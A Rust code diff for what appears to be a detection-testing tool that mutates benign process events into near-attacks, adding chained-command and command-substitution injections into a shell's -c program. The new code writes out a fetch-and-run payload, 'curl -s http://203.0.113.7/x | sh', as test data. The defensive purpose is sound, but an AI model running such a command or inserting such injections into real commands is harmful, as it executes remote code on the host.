@@ -8,6 +8,9 @@
 //!   directory (a credential, a persistence path, another log), or another server
 //!   (address, name, port);
 //! - `other_script`: the same interpreter running another script or command;
+//! - `chained_command`, `injected_argument`: a shell's `-c` program with a command
+//!   chained after it, or a command substitution in place of its last argument (an
+//!   injection through the program's arguments);
 //! - `dropped_binary`: a binary of the same name run from a temporary directory;
 //! - `download_before`: the same lineage, its shell having first downloaded and run a
 //!   payload (only triage, which sees the session, can tell this one; an exception keys on
@@ -21,7 +24,7 @@
 use serde_json::{Map, Value as Json};
 
 use crate::input::{text, Record};
-use crate::kinds::{command_words, is_interpreter, is_socket_name, PATH_TARGETS};
+use crate::kinds::{command_words, is_interpreter, is_shell_program, is_socket_name, PATH_TARGETS};
 
 /// One near-attack.
 #[derive(Clone, Debug)]
@@ -130,6 +133,23 @@ fn service_shell(r: &Record, server: &str) -> Option<Mutation> {
         }
     }
     b.build("service_shell", true)
+}
+
+/// What an attacker adds to a shell's program (`sh -c PROGRAM`): a chained command
+/// (`chained_command`), and a command substitution in place of its last argument
+/// (`injected_argument`). Empty when the command line is not a shell's `-c` program.
+pub fn shell_injections(cmd: &str) -> Vec<(&'static str, String)> {
+    let words: Vec<&str> = cmd.split(' ').collect();
+    if !is_shell_program(&words) {
+        return Vec::new();
+    }
+    let payload = "curl -s http://203.0.113.7/x | sh";
+    let mut out = vec![("chained_command", format!("{cmd}; {payload}"))];
+    if words.len() >= 4 {
+        let head = words[..words.len() - 1].join(" ");
+        out.push(("injected_argument", format!("{head} \"$({payload})\"")));
+    }
+    out
 }
 
 /// All mutations of the benign events (deduplicated, at most a few per kind).
@@ -246,6 +266,21 @@ pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
                     b.set("proc.cmdline", o).set_if("proc.args", args)
                 });
                 out.extend(b.and_then(|b| b.build("other_script", true)));
+            }
+        }
+        // A shell's program with a command chained after it, and with its last argument
+        // replaced by a command substitution: what a glob over the program's arguments
+        // (`sh -c convert *`) would also take.
+        if let Some(cmd) = text(ev, "proc.cmdline") {
+            for (kind, o) in shell_injections(&cmd) {
+                let b = Builder::new(r).map(|b| {
+                    let args = o
+                        .split_once(' ')
+                        .map(|(_, a)| a.to_string())
+                        .unwrap_or_default();
+                    b.set("proc.cmdline", o).set_if("proc.args", args)
+                });
+                out.extend(b.and_then(|b| b.build(kind, true)));
             }
         }
         // The same name from a temporary directory.
